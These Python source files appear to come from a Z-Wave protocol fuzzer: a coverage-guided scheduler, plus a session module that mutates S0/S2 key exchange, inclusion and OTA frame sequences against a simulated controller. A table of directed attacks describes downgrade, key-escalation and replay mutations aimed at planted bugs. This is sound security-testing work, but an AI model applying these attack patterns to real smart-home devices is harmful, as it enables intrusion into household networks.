    def corpus_payloads(self, cmdcl: int) -> Tuple[bytes, ...]:
        """The canonical (order-independent) corpus view for one class."""
        return canonical_corpus(self._corpus.get(cmdcl, ()))

    def corpus_size(self) -> int:
        """Total coverage-novel seed frames retained across all classes."""
        return self._corpus_total

    # -- the energy model ------------------------------------------------------

    def energy_vector(self) -> Dict[int, float]:
        """The exploitation score of every queued CMDCL, highest = next.

        A pure function of the scheduler's accumulated per-class state,
        the collector's coverage bitmap and the registry — no entropy, so
        two schedulers with identical feedback produce identical vectors
        (the purity property of the test suite).  Terms:

        * recent novelty — coverage-novel frames of the last window,
          weighted strongest (the CovFUZZ energy signal);
        * residual dispatch paths — registry-defined ``(cmdcl, cmd)``
          pairs the bitmap has not seen yet;
        * prefix remaining — unconsumed deterministic-prefix frames, so
          every class's bug-bearing stages drain even when its coverage
          plateaus early.
        """
        scores: Dict[int, float] = {}
        for cmdcl in self._queue:
            state = self._states[cmdcl]
            cls = self._registry.get(cmdcl)
            defined = cls.command_count if cls is not None else 0
            residual = max(0, defined - self._collector.covered_pairs(cmdcl))
            prefix_rem = max(0, self._mutator.prefix_length(cmdcl) - state.frames)
            scores[cmdcl] = (
                3.0 * state.last_novel
                + 1.0 * residual
                + min(prefix_rem, PREFIX_TERM_CAP) / 16.0
            )
        return scores

    def next_decision(self) -> SchedulerDecision:
        """Pick the next ``(cmdcl, window)`` to fuzz.

        Phase 1 sweeps the whole queue with probe windows; afterwards the
        seeded ε-greedy split alternates exploration (least-fuzzed class)
        with exploitation (argmax of :meth:`energy_vector`, window scaled
        by recent novelty).  Ties always break on static queue position —
        never on container iteration order.
        """
        probe = self._cmdcl_time * PROBE_FACTOR
        if self._sweep_index < len(self._queue):
            cmdcl = self._queue[self._sweep_index]
            self._sweep_index += 1
            return SchedulerDecision(cmdcl, probe, REASON_PROBE)
        if self._rng.random() < EPSILON:
            return SchedulerDecision(self._least_fuzzed(), probe, REASON_EXPLORE)
        scores = self.energy_vector()
        best = min(
            self._queue,
            key=lambda c: (-scores[c], self._states[c].queue_pos),
        )
        if scores[best] <= 0.0:
            # Steady state: everything drained — keep cycling the rng
            # tails, cheapest-first, like the static requeue would.
            return SchedulerDecision(self._least_fuzzed(), probe, REASON_EXPLORE)
        window = self._cmdcl_time * min(
            EXPLOIT_CAP, 1.0 + EXPLOIT_GAIN * self._states[best].last_novel
        )
        return SchedulerDecision(best, window, REASON_EXPLOIT)

    def _least_fuzzed(self) -> int:
        return min(
            self._queue,
            key=lambda c: (self._states[c].frames, self._states[c].queue_pos),
        )

    # -- the engine-facing stream ----------------------------------------------

    def streams(self) -> Iterator[Tuple[int, Iterator[TestCase], Optional[float]]]:
        """Endless adaptive stream tuples for :meth:`FuzzingEngine.run`."""
        while True:
            decision = self.next_decision()
            state = self._states[decision.cmdcl]
            state.windows += 1
            state.window_novel = 0
            self._collector.inc(
                f"scheduler.energy.{decision.cmdcl:02x}",
                int(round(decision.window_s)),
            )
            self._collector.inc(f"scheduler.windows.{decision.reason}")
            self._trace.append(
                (decision.cmdcl, round(decision.window_s, 6), decision.reason)
            )
            yield decision.cmdcl, self._window_cases(decision), decision.window_s
            # The engine moved on: close the window out so the next
            # decision sees this window's novelty as "recent".
            state.last_novel = state.window_novel

    def _window_cases(self, decision: SchedulerDecision) -> Iterator[TestCase]:
        """One window's cases: corpus re-mutations, then the resumed stream."""
        cmdcl = decision.cmdcl
        stream = self._iters.get(cmdcl)
        if stream is None:
            stream = self._iters[cmdcl] = iter(self._mutator.generate(cmdcl))
        cases: Iterator[TestCase] = stream
        if decision.reason != REASON_PROBE:
            corpus = self.corpus_payloads(cmdcl)
            if corpus:
                cases = _chain(self._corpus_cases(cmdcl, corpus), stream)
        return self._instrumented(cmdcl, cases)

    def _instrumented(self, cmdcl: int, cases: Iterator[TestCase]) -> Iterator[TestCase]:
        """Attribute coverage growth to the frame that caused it.

        The engine resumes this generator only after the previous case
        was injected and dispatched, so comparing the bitmap size across
        the ``yield`` observes exactly that frame's effect.  (The final
        case of a window is never attributed — the engine breaks out
        without resuming — which is deterministic and therefore fine.)
        """
        state = self._states[cmdcl]
        for case in cases:
            mark = self._collector.coverage_size()
            yield case
            state.frames += 1
            if self._collector.coverage_size() > mark:
                state.novel += 1
                state.window_novel += 1
                self._collector.inc("scheduler.coverage_novel_frames")
                self._remember(cmdcl, case)

    # -- the corpus ------------------------------------------------------------

    def _remember(self, cmdcl: int, case: TestCase) -> None:
        bucket = self._corpus.setdefault(cmdcl, set())
        payload = case.payload.encode()
        if payload not in bucket:
            bucket.add(payload)
            self._corpus_total += 1
            self._collector.gauge_max("scheduler.corpus_size", self._corpus_total)

    def _corpus_cases(self, cmdcl: int, corpus: Tuple[bytes, ...]) -> Iterator[TestCase]:
        for payload in corpus:
            for _ in range(CORPUS_VARIANTS):
                self._collector.inc("scheduler.corpus_cases")
                yield self._havoc(cmdcl, payload)

    def _havoc(self, cmdcl: int, payload: bytes) -> TestCase:
        """One seeded re-mutation of a coverage-novel seed frame.

        Position-sensitive to the end: the CMDCL byte is never touched,
        the command byte only arithmetically, parameters freely.
        """
        cmd = payload[1] if len(payload) > 1 else 0x00
        params = bytearray(payload[2:])
        ops = ["append", "arith"]
        if params:
            ops += ["flip", "truncate"]
        op = self._rng.choice(ops)
        if op == "flip":
            index = self._rng.randrange(len(params))
            params[index] ^= 1 << self._rng.randrange(8)
        elif op == "truncate":
            del params[-1]
        elif op == "append":
            params.append(self._rng.choice(INTERESTING_VALUES))
        else:  # arith on the command byte
            cmd = (cmd + self._rng.choice((-1, 1))) & 0xFF
        return TestCase(
            ApplicationPayload(cmdcl, cmd, bytes(params)),
            MutationOperator.CORPUS,
            1 if op == "arith" else 2 + max(0, len(params) - 1),
            "corpus re-mutation",
        )


def _chain(*iterators: Iterator[TestCase]) -> Iterator[TestCase]:
    for iterator in iterators:
        for case in iterator:
            yield case
