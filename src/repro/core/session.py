"""Stateful session fuzzing of the multi-frame protocol flows.

The PSM campaign (:mod:`repro.core.campaign`) mutates single application
frames; the protocol's richest attack surface is multi-frame state
machines — S0 key exchange downgrade (Crushing the Wave), the S2
ECDH/nonce bootstrap, inclusion/exclusion/replication ceremonies and OTA
firmware transfer.  This module models each of those flows as an explicit
state graph (:data:`FLOW_GRAPHS`), then drives seeded mutated *sequences*
against a lenient controller model: frames are reordered, dropped,
replayed, field-mutated at chosen states, or spliced with
downgrade/early-commit injections.

Determinism contract (the same one every other subsystem carries):

* a :class:`SessionSchedule` is a **pure function of (flow, plan, seed)**
  — every trial's mutation ops come from a generator seeded by
  :func:`~repro.faults.schedule.derive_seed` with a per-trial label, so
  trial *t* is identical whether or not trials ``0..t-1`` were compiled
  (horizon-prefix stability for free);
* the evaluator walk, the planted-oracle match
  (:func:`~repro.simulator.vulnerabilities.match_session_vulns`) and the
  per-flow energy loop consume no entropy at all, so a
  :class:`SessionResult` is a pure function of (device, flows, plan,
  seed);
* flows are independent shards: :func:`run_sessions` executes one
  :class:`~repro.core.parallel.CampaignUnit` per flow and merges in
  canonical flow order, so ``--workers N`` output is byte-identical to
  serial (the results ride wire v5, see :mod:`repro.core.resultio`).

Energy follows novelty: each flow runs batches of trials, starting with
the directed protocol-guided corpus (:data:`DIRECTED_ATTACKS`, which
doubles as the oracle's ground-truth reachability proof), then ε-greedy
style *explore*/*exploit* batches — a batch that grew the state×transition
coverage bitmap earns the next batch extra havoc ops.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field, replace
from typing import Dict, Iterable, List, Optional, Sequence, Tuple

from ..errors import CampaignError
from ..faults.schedule import derive_seed
from ..obs import metrics as obs
from ..obs.metrics import MetricsCollector, MetricsSnapshot, collecting, merge_all
from ..simulator.vulnerabilities import (
    SESSION_VULNS,
    SessionFrame,
    SessionVulnerability,
    match_session_vulns,
    session_vulns_for_flow,
)

#: Canonical flow order: unit submission, merge and report order.
FLOWS: Tuple[str, ...] = ("inclusion", "exclusion", "replication", "s0", "s2", "ota")

#: One frame on the session wire: (sender, cmdcl, cmd, params).
Event = Tuple[str, int, int, bytes]

#: Mutation operator vocabulary, in wire order.
OP_KINDS: Tuple[str, ...] = (
    "drop",
    "reorder",
    "replay",
    "mutate",
    "inject-downgrade",
    "inject-commit",
)

#: Energy-window reasons, mirroring the coverage scheduler's vocabulary.
REASON_PROBE = "probe"
REASON_EXPLORE = "explore"
REASON_EXPLOIT = "exploit"


# -- flow graphs ---------------------------------------------------------------


@dataclass(frozen=True)
class FlowStep:
    """One happy-path transition: ``src --frame--> dst``."""

    label: str
    src: str
    dst: str
    sender: str  # "ctrl" or "dev"
    cmdcl: int
    cmd: int
    params: bytes

    def event(self) -> Event:
        return (self.sender, self.cmdcl, self.cmd, self.params)

    def matches(self, sender: str, cmdcl: int, cmd: int) -> bool:
        return self.sender == sender and self.cmdcl == cmdcl and self.cmd == cmd


@dataclass(frozen=True)
class FlowGraph:
    """The explicit state graph of one multi-frame flow.

    ``downgrade`` and ``commit`` are the flow's injection templates: the
    frame an attacker splices in to weaken the exchange (non-zero scheme
    offer, escalated key grant, stale NIF, mid-transfer re-offer) and the
    frame that closes it prematurely (early TRANSFER_END / STATUS OK).
    """

    name: str
    initial: str
    terminal: str
    steps: Tuple[FlowStep, ...]
    downgrade: Event
    commit: Event

    def happy_events(self) -> Tuple[Event, ...]:
        return tuple(step.event() for step in self.steps)

    def states(self) -> Tuple[str, ...]:
        ordered: List[str] = [self.initial]
        for step in self.steps:
            if step.dst not in ordered:
                ordered.append(step.dst)
        return tuple(ordered)

    def step_from(
        self, state: str, sender: str, cmdcl: int, cmd: int
    ) -> Optional[FlowStep]:
        """The first step leaving *state* that the frame satisfies."""
        for step in self.steps:
            if step.src == state and step.matches(sender, cmdcl, cmd):
                return step
        return None

    def known_step(self, sender: str, cmdcl: int, cmd: int) -> Optional[FlowStep]:
        """The first step anywhere in the graph with this signature."""
        for step in self.steps:
            if step.matches(sender, cmdcl, cmd):
                return step
        return None


def _graph(
    name: str,
    steps: Sequence[Tuple[str, str, str, str, int, int, bytes]],
    downgrade: Event,
    commit: Event,
) -> FlowGraph:
    flow_steps = tuple(FlowStep(*entry) for entry in steps)
    return FlowGraph(
        name=name,
        initial=flow_steps[0].src,
        terminal=flow_steps[-1].dst,
        steps=flow_steps,
        downgrade=downgrade,
        commit=commit,
    )


#: The six modelled flows.  Frames follow the simulator's own encodings
#: (`simulator/inclusion.py`, `security/s0.py`, `security/s2.py`,
#: `simulator/ota.py`); payload bytes that the real exchanges derive from
#: crypto are fixed representative values — the session layer fuzzes the
#: *sequence*, not the cipher.
FLOW_GRAPHS: Dict[str, FlowGraph] = {
    "inclusion": _graph(
        "inclusion",
        [
            ("presentation", "idle", "presented", "ctrl", 0x01, 0x08, b"\x01"),
            ("nif", "presented", "nif_received", "dev", 0x01, 0x01, b"\x53\x03\x40\x03"),
            ("assign_id", "nif_received", "id_assigned", "ctrl", 0x01, 0x09, b"\x01\x04\x53"),
            ("transfer_end", "id_assigned", "done", "ctrl", 0x01, 0x0B, b"\x00"),
        ],
        downgrade=("dev", 0x01, 0x01, b"\x54\x03\x40\x03"),
        commit=("ctrl", 0x01, 0x0B, b"\x00"),
    ),
    "exclusion": _graph(
        "exclusion",
        [
            ("presentation", "idle", "presented", "ctrl", 0x01, 0x08, b"\x02"),
            ("nif", "presented", "nif_received", "dev", 0x01, 0x01, b"\x53\x03\x40\x03"),
            ("confirm", "nif_received", "done", "ctrl", 0x01, 0x0B, b"\x02"),
        ],
        downgrade=("dev", 0x01, 0x01, b"\x54\x03\x40\x03"),
        commit=("ctrl", 0x01, 0x0B, b"\x02"),
    ),
    "replication": _graph(
        "replication",
        [
            ("xfer_node_2", "idle", "transferring", "ctrl", 0x01, 0x09, b"\x00\x02\x80"),
            ("xfer_node_3", "transferring", "transferring", "ctrl", 0x01, 0x09, b"\x01\x03\x00"),
            ("xfer_node_4", "transferring", "transferring", "ctrl", 0x01, 0x09, b"\x02\x04\x80"),
            ("transfer_end", "transferring", "done", "ctrl", 0x01, 0x0B, b"\x00"),
        ],
        downgrade=("ctrl", 0x01, 0x09, b"\x00\x07\x80"),
        commit=("ctrl", 0x01, 0x0B, b"\x00"),
    ),
    "s0": _graph(
        "s0",
        [
            ("scheme_get", "idle", "scheme_requested", "ctrl", 0x98, 0x04, b"\x00"),
            ("scheme_report", "scheme_requested", "scheme_agreed", "dev", 0x98, 0x05, b"\x00"),
            ("nonce_report", "scheme_agreed", "nonce_issued", "dev", 0x98, 0x80, b"\xa1\xb2\xc3\xd4\xe5\xf6\x07\x18"),
            ("key_set", "nonce_issued", "key_transferred", "ctrl", 0x98, 0x81, b"\x06\x40\x12\x9b\x5d\x2e\x71\x0c\x88\x3f\xa4\x61\xd9\x0e\x57\xc2"),
            ("key_verify", "key_transferred", "done", "dev", 0x98, 0x07, b""),
        ],
        downgrade=("dev", 0x98, 0x05, b"\x01"),
        commit=("dev", 0x98, 0x07, b""),
    ),
    "s2": _graph(
        "s2",
        [
            ("kex_get", "idle", "kex_requested", "ctrl", 0x9F, 0x04, b""),
            ("kex_report", "kex_requested", "kex_reported", "dev", 0x9F, 0x05, b"\x00\x02\x01\x06"),
            ("kex_set", "kex_reported", "keys_granted", "ctrl", 0x9F, 0x06, b"\x00\x02\x01\x06"),
            ("pubkey_device", "keys_granted", "device_key_sent", "dev", 0x9F, 0x08, b"\x01\x7b\x2c\x91\x4e\xd0\x35\xaa\x68"),
            ("pubkey_ctrl", "device_key_sent", "ctrl_key_sent", "ctrl", 0x9F, 0x08, b"\x00\x19\xe4\x72\x0b\xc5\x8d\x36\xf1"),
            ("key_transfer", "ctrl_key_sent", "key_transferred", "ctrl", 0x9F, 0x03, b"\x00\x00\x51\x8e\x27\xb3\x6c\xd4\x09\xfa\x45\x92"),
            ("transfer_end", "key_transferred", "span_pending", "dev", 0x9F, 0x09, b"\x01"),
            ("span_nonce", "span_pending", "span_synced", "dev", 0x9F, 0x02, b"\x01\x5a\x0f\xc8\x33\x97\x6b\xe2\x1d\x84\x49\xd6\x2f\xb0\x7e\xa5\x10"),
            ("secure_frame", "span_synced", "done", "ctrl", 0x9F, 0x03, b"\x01\x00\x63\xb7\x1a\x8f\x40\xdd\x29\xe6\x52\x0b"),
        ],
        downgrade=("ctrl", 0x9F, 0x06, b"\x00\x02\x01\x87"),
        commit=("dev", 0x9F, 0x09, b"\x01"),
    ),
    "ota": _graph(
        "ota",
        [
            ("offer", "idle", "offered", "ctrl", 0x7A, 0x03, b"\x00\x01\x9a\x3c\x03"),
            ("accept", "offered", "accepted", "dev", 0x7A, 0x04, b"\xff"),
            ("pull", "accepted", "pulling", "dev", 0x7A, 0x05, b"\x03\x01"),
            ("frag_1", "pulling", "transferring", "ctrl", 0x7A, 0x06, b"\x01\xde\xad\xbe\xef\x01\x02"),
            ("frag_2", "transferring", "transferring", "ctrl", 0x7A, 0x06, b"\x02\xca\xfe\xba\xbe\x03\x04"),
            ("frag_3", "transferring", "transferring", "ctrl", 0x7A, 0x06, b"\x83\xfe\xed\xfa\xce\x05\x06"),
            ("status_ok", "transferring", "done", "dev", 0x7A, 0x07, b"\xff\x00\x00"),
        ],
        downgrade=("ctrl", 0x7A, 0x03, b"\x00\x01\x12\x34\x03"),
        commit=("dev", 0x7A, 0x07, b"\xff\x00\x00"),
    ),
}


def happy_path(flow: str) -> Tuple[Event, ...]:
    """The unmutated frame sequence of *flow* (the oracle's clean trace)."""
    return flow_graph(flow).happy_events()


def flow_graph(flow: str) -> FlowGraph:
    """The state graph for *flow*, or :class:`CampaignError` if unknown."""
    try:
        return FLOW_GRAPHS[flow]
    except KeyError:
        raise CampaignError(
            f"unknown session flow {flow!r}; expected one of {', '.join(FLOWS)}"
        ) from None


def planted_vuln_ids(flows: Iterable[str] = FLOWS) -> Tuple[str, ...]:
    """The vuln ids of every planted session bug in the given flows."""
    wanted = set(flows)
    return tuple(v.vuln_id for v in SESSION_VULNS if v.flow in wanted)


# -- mutation ops --------------------------------------------------------------


@dataclass(frozen=True)
class SessionOp:
    """One sequence mutation, applied to the evolving event list.

    Indices are taken modulo the current sequence length at application
    time, so any op is well-formed on any sequence — the schedule never
    needs to know what earlier ops did.
    """

    kind: str
    index: int = 0
    index2: int = 0
    byte_pos: int = 0
    xor: int = 0

    def to_wire(self) -> list:
        return [self.kind, self.index, self.index2, self.byte_pos, self.xor]

    @staticmethod
    def from_wire(data: Sequence) -> "SessionOp":
        kind, index, index2, byte_pos, xor = data
        return SessionOp(
            kind=kind, index=index, index2=index2, byte_pos=byte_pos, xor=xor
        )


def apply_ops(flow: str, ops: Sequence[SessionOp]) -> Tuple[Event, ...]:
    """The mutated event sequence: happy path of *flow* + *ops* in order."""
    graph = flow_graph(flow)
    events: List[Event] = list(graph.happy_events())
    for op in ops:
        n = len(events)
        if n == 0:
            break
        i = op.index % n
        if op.kind == "drop":
            if n > 1:
                del events[i]
        elif op.kind == "reorder":
            j = op.index2 % n
            events[i], events[j] = events[j], events[i]
        elif op.kind == "replay":
            events.insert(op.index2 % (n + 1), events[i])
        elif op.kind == "mutate":
            sender, cmdcl, cmd, params = events[i]
            if params:
                body = bytearray(params)
                body[op.byte_pos % len(body)] ^= (op.xor & 0xFF) or 0x01
                events[i] = (sender, cmdcl, cmd, bytes(body))
        elif op.kind == "inject-downgrade":
            events.insert(i, graph.downgrade)
        elif op.kind == "inject-commit":
            events.insert(i, graph.commit)
        else:
            raise CampaignError(f"unknown session op kind {op.kind!r}")
    return tuple(events)


# -- the directed corpus (oracle ground truth) ---------------------------------

#: One short mutation per planted bug that provably reaches it from the
#: happy path.  Doubles as the schedule's probe batch (protocol-guided
#: seeds, ThreadFuzzer-style) and as the reachability half of the oracle
#: ground-truth contract (`tests/test_session_oracle.py`).
DIRECTED_ATTACKS: Dict[str, Tuple[SessionOp, ...]] = {
    # S0: flip the scheme offer to a non-zero scheme; the key still ships.
    "SV01": (SessionOp("mutate", index=1, byte_pos=0, xor=0x01),),
    # S0: replay the nonce report and the encapsulation consuming it.
    "SV02": (
        SessionOp("replay", index=2, index2=5),
        SessionOp("replay", index=3, index2=6),
    ),
    # S0: replay the key-set encapsulation after NETWORK_KEY_VERIFY.
    "SV03": (SessionOp("replay", index=3, index2=5),),
    # S2: grant key classes beyond the device's request (bit 0x81).
    "SV04": (SessionOp("mutate", index=2, byte_pos=3, xor=0x81),),
    # S2: append a second, different device public key.
    "SV05": (
        SessionOp("replay", index=3, index2=9),
        SessionOp("mutate", index=9, byte_pos=1, xor=0xFF),
    ),
    # S2: repeat the SPAN entropy, then another encapsulation.
    "SV06": (
        SessionOp("replay", index=7, index2=9),
        SessionOp("replay", index=8, index2=10),
    ),
    # Inclusion: append a divergent NIF after the ceremony closed.
    "SV07": (
        SessionOp("replay", index=1, index2=4),
        SessionOp("mutate", index=4, byte_pos=0, xor=0x07),
    ),
    # Exclusion: drop the presentation; the removal still commits.
    "SV08": (SessionOp("drop", index=0),),
    # Replication: drop TRANSFER_END; the records still persist.
    "SV09": (SessionOp("drop", index=3),),
    # Replication: reuse sequence 0 for a different node id.
    "SV10": (
        SessionOp("replay", index=0, index2=4),
        SessionOp("mutate", index=4, byte_pos=1, xor=0x05),
    ),
    # OTA: splice a fresh offer mid-transfer; fragments keep flowing.
    "SV11": (SessionOp("replay", index=0, index2=5),),
    # OTA: drop a fragment; STATUS OK still arrives.
    "SV12": (SessionOp("drop", index=4),),
}


def directed_attack(vuln_id: str) -> Tuple[SessionOp, ...]:
    """The directed mutation that reaches the planted bug *vuln_id*."""
    try:
        return DIRECTED_ATTACKS[vuln_id]
    except KeyError:
        raise CampaignError(f"no directed attack for {vuln_id!r}") from None


def directed_corpus(flow: str) -> Tuple[Tuple[str, Tuple[SessionOp, ...]], ...]:
    """The ``(vuln_id, ops)`` probe corpus of one flow, in vuln-id order."""
    return tuple(
        (vuln.vuln_id, DIRECTED_ATTACKS[vuln.vuln_id])
        for vuln in session_vulns_for_flow(flow)
        if vuln.vuln_id in DIRECTED_ATTACKS
    )


# -- plans and schedules -------------------------------------------------------


@dataclass(frozen=True)
class SessionPlan:
    """Declarative knobs of a session campaign (the *what*, never the *when*).

    Like a :class:`~repro.faults.plan.FaultPlan`, a plan is inert data;
    all sequencing comes from compiling it with a seed into a
    :class:`SessionSchedule`.
    """

    name: str = "default"
    #: Trials per flow (raised to the directed-corpus size if smaller).
    trials: int = 24
    #: Trials per energy window after the probe batch.
    batch_trials: int = 4
    #: Inclusive bounds on random ops per trial.
    min_ops: int = 1
    max_ops: int = 3
    #: Extra havoc ops per trial inside an exploit window.
    exploit_boost: int = 1
    #: Weighted op-kind lottery for random trials.
    weights: Tuple[Tuple[str, int], ...] = (
        ("drop", 2),
        ("reorder", 2),
        ("replay", 3),
        ("mutate", 3),
        ("inject-downgrade", 1),
        ("inject-commit", 1),
    )
    #: Whether the directed corpus seeds the schedule's probe batch.
    directed_seeds: bool = True

    def validate(self) -> None:
        """Reject plans the schedule compiler cannot honour."""
        if self.trials <= 0:
            raise CampaignError("session plan: trials must be positive")
        if self.batch_trials <= 0:
            raise CampaignError("session plan: batch_trials must be positive")
        if not (1 <= self.min_ops <= self.max_ops):
            raise CampaignError("session plan: need 1 <= min_ops <= max_ops")
        if self.exploit_boost < 0:
            raise CampaignError("session plan: exploit_boost must be >= 0")
        if not self.weights:
            raise CampaignError("session plan: weights must be non-empty")
        for kind, weight in self.weights:
            if kind not in OP_KINDS:
                raise CampaignError(f"session plan: unknown op kind {kind!r}")
            if weight <= 0:
                raise CampaignError(f"session plan: weight for {kind!r} must be > 0")

    def to_wire(self) -> dict:
        """JSON-ready form; inverse of :meth:`from_wire`."""
        return {
            "name": self.name,
            "trials": self.trials,
            "batch_trials": self.batch_trials,
            "min_ops": self.min_ops,
            "max_ops": self.max_ops,
            "exploit_boost": self.exploit_boost,
            "weights": [[kind, weight] for kind, weight in self.weights],
            "directed_seeds": self.directed_seeds,
        }

    @staticmethod
    def from_wire(data: dict) -> "SessionPlan":
        plan = SessionPlan(
            name=data["name"],
            trials=data["trials"],
            batch_trials=data["batch_trials"],
            min_ops=data["min_ops"],
            max_ops=data["max_ops"],
            exploit_boost=data["exploit_boost"],
            weights=tuple((kind, weight) for kind, weight in data["weights"]),
            directed_seeds=data["directed_seeds"],
        )
        plan.validate()
        return plan


def default_session_plan() -> SessionPlan:
    """The stock plan `zcover sessions` runs without ``--trials`` overrides."""
    return SessionPlan()


def dumps_session_plan(plan: SessionPlan) -> str:
    """Canonical JSON encoding of *plan* (the cross-worker carrier)."""
    import json

    return json.dumps(plan.to_wire(), sort_keys=True, separators=(",", ":"))


def loads_session_plan(text: str) -> SessionPlan:
    """Decode and validate a plan from :func:`dumps_session_plan` text."""
    import json

    return SessionPlan.from_wire(json.loads(text))


def _weighted_kind(rng: random.Random, weights: Tuple[Tuple[str, int], ...]) -> str:
    roll = rng.randrange(sum(weight for _, weight in weights))
    for kind, weight in weights:
        if roll < weight:
            return kind
        roll -= weight
    return weights[-1][0]


def _random_op(rng: random.Random, kind: str, span: int) -> SessionOp:
    return SessionOp(
        kind=kind,
        index=rng.randrange(span),
        index2=rng.randrange(span + 1),
        byte_pos=rng.randrange(16),
        xor=rng.randrange(1, 256),
    )


class SessionSchedule:
    """The compiled per-flow trial stream: pure in ``(flow, plan, seed)``.

    Each trial draws from its own generator seeded with a per-trial label
    — ``derive_seed(seed, "session.<flow>.trial.<t>")`` — so trial *t* is
    the same whether it is compiled alone or as part of a longer horizon.
    """

    def __init__(self, flow: str, plan: SessionPlan, seed: int):
        plan.validate()
        self.flow = flow
        self.plan = plan
        self.seed = seed
        self.graph = flow_graph(flow)
        self.corpus = directed_corpus(flow) if plan.directed_seeds else ()

    @property
    def total_trials(self) -> int:
        """Plan trials, raised so the probe corpus always fits."""
        return max(self.plan.trials, len(self.corpus))

    def trial_ops(self, trial: int) -> Tuple[SessionOp, ...]:
        """The mutation ops of trial *trial* (directed corpus first)."""
        if trial < len(self.corpus):
            return self.corpus[trial][1]
        rng = random.Random(
            derive_seed(self.seed, f"session.{self.flow}.trial.{trial}")
        )
        count = rng.randint(self.plan.min_ops, self.plan.max_ops)
        span = len(self.graph.steps) + 2
        ops = []
        for _ in range(count):
            kind = _weighted_kind(rng, self.plan.weights)
            ops.append(_random_op(rng, kind, span))
        return tuple(ops)

    def havoc_ops(self, trial: int) -> Tuple[SessionOp, ...]:
        """Extra exploit-window ops for trial *trial* (same purity rules)."""
        rng = random.Random(
            derive_seed(self.seed, f"session.{self.flow}.havoc.{trial}")
        )
        span = len(self.graph.steps) + 2
        return tuple(
            _random_op(rng, _weighted_kind(rng, self.plan.weights), span)
            for _ in range(self.plan.exploit_boost)
        )

    def trial_label(self, trial: int) -> Optional[str]:
        """``"directed:<vuln_id>"`` for probe trials, else ``None``."""
        if trial < len(self.corpus):
            return f"directed:{self.corpus[trial][0]}"
        return None

    def describe(self, trials: int = 8) -> dict:
        """A JSON-clean fingerprint of the schedule head.

        Pure data derived only from ``(flow, plan, seed)`` — the property
        suite asserts two compilations produce identical descriptions.
        """
        return {
            "flow": self.flow,
            "seed": self.seed,
            "plan": self.plan.to_wire(),
            "trial_ops": [
                [op.to_wire() for op in self.trial_ops(t)] for t in range(trials)
            ],
            "labels": [self.trial_label(t) for t in range(trials)],
            "havoc_ops": [
                [op.to_wire() for op in self.havoc_ops(t)] for t in range(trials)
            ],
        }


# -- the evaluator -------------------------------------------------------------


@dataclass(frozen=True)
class SessionEvaluation:
    """One trace's walk through the flow graph, annotated for the oracle."""

    flow: str
    frames: Tuple[SessionFrame, ...]
    #: ``(state_before, mark)`` per frame; *mark* is the new state for
    #: on-path frames, ``"!<label>"`` for a known step arriving in the
    #: wrong state, ``"?"`` for a frame no step defines.
    transitions: Tuple[Tuple[str, str], ...]
    findings: Tuple[Tuple[SessionVulnerability, int], ...]
    final_state: str

    @property
    def completed(self) -> bool:
        return self.final_state == flow_graph(self.flow).terminal


def evaluate_trace(flow: str, events: Sequence[Event]) -> SessionEvaluation:
    """Walk *events* through the flow graph and match the planted oracle.

    The walk models a *lenient* controller: on-path frames advance the
    state, everything else is consumed without aborting — the planted
    predicates are exactly the acceptances a strict implementation would
    reject.  Per-frame coverage (both the ``flow@state>mark`` transition
    bitmap and the CMDCL×CMD bitmap) lands on the active obs collector.
    """
    graph = flow_graph(flow)
    state = graph.initial
    frames: List[SessionFrame] = []
    transitions: List[Tuple[str, str]] = []
    for sender, cmdcl, cmd, params in events:
        frames.append(
            SessionFrame(state=state, sender=sender, cmdcl=cmdcl, cmd=cmd, params=params)
        )
        step = graph.step_from(state, sender, cmdcl, cmd)
        if step is not None:
            mark = step.dst
        else:
            known = graph.known_step(sender, cmdcl, cmd)
            mark = f"!{known.label}" if known is not None else "?"
        transitions.append((state, mark))
        obs.cover_state(flow, state, mark)
        obs.cover(cmdcl, cmd)
        if step is not None:
            state = step.dst
    return SessionEvaluation(
        flow=flow,
        frames=tuple(frames),
        transitions=tuple(transitions),
        findings=tuple(match_session_vulns(flow, tuple(frames))),
        final_state=state,
    )


# -- results -------------------------------------------------------------------


@dataclass(frozen=True)
class SessionBugRecord:
    """First discovery of one planted session bug (wire v5, W3xx)."""

    flow: str
    trial: int
    sequence_index: int
    vuln_id: str
    state: str


@dataclass(frozen=True)
class SessionResult:
    """Everything one session campaign produced (wire v5, W3xx).

    ``trajectory`` is the mutation trajectory — one ``(flow, trial,
    label)`` entry per executed trial, where *label* is the directed
    vuln id or the ``+``-joined op kinds actually applied; the golden
    test pins it byte-for-byte.
    """

    device: str
    seed: int
    flows: Tuple[str, ...]
    trials_by_flow: Dict[str, int] = field(default_factory=dict)
    op_counts: Dict[str, int] = field(default_factory=dict)
    trajectory: Tuple[Tuple[str, int, str], ...] = ()
    bugs: Tuple[SessionBugRecord, ...] = ()
    energy_trace: Tuple[Tuple[str, int, str], ...] = ()
    metrics: Optional[MetricsSnapshot] = None

    @property
    def found_vuln_ids(self) -> Tuple[str, ...]:
        return tuple(sorted({bug.vuln_id for bug in self.bugs}))

    @property
    def found_all_planted(self) -> bool:
        return set(self.found_vuln_ids) >= set(planted_vuln_ids(self.flows))

    @property
    def total_trials(self) -> int:
        return sum(self.trials_by_flow.values())


def merge_session_results(results: Sequence[SessionResult]) -> SessionResult:
    """Fold per-flow shard results, in the given (canonical) order.

    Mirrors :func:`repro.core.resultio.merge_trials`: the caller hands the
    shards in submission order, so the merged result is byte-identical to
    a serial run for any worker count.
    """
    if not results:
        raise CampaignError("merge_session_results: nothing to merge")
    head = results[0]
    for result in results[1:]:
        if result.device != head.device or result.seed != head.seed:
            raise CampaignError(
                "merge_session_results: mixed (device, seed) shards"
            )
    flows: Tuple[str, ...] = ()
    trials_by_flow: Dict[str, int] = {}
    op_counts: Dict[str, int] = {}
    trajectory: Tuple[Tuple[str, int, str], ...] = ()
    bugs: Tuple[SessionBugRecord, ...] = ()
    energy: Tuple[Tuple[str, int, str], ...] = ()
    for result in results:
        flows += result.flows
        for key, value in result.trials_by_flow.items():
            trials_by_flow[key] = trials_by_flow.get(key, 0) + value
        for key, value in result.op_counts.items():
            op_counts[key] = op_counts.get(key, 0) + value
        trajectory += result.trajectory
        bugs += result.bugs
        energy += result.energy_trace
    return SessionResult(
        device=head.device,
        seed=head.seed,
        flows=flows,
        trials_by_flow={k: trials_by_flow[k] for k in sorted(trials_by_flow)},
        op_counts={k: op_counts[k] for k in sorted(op_counts)},
        trajectory=trajectory,
        bugs=bugs,
        energy_trace=energy,
        metrics=merge_all(
            result.metrics for result in results if result.metrics is not None
        ),
    )


# -- the per-flow energy loop --------------------------------------------------


def run_session_flow(
    device: str,
    flow: str,
    seed: int = 0,
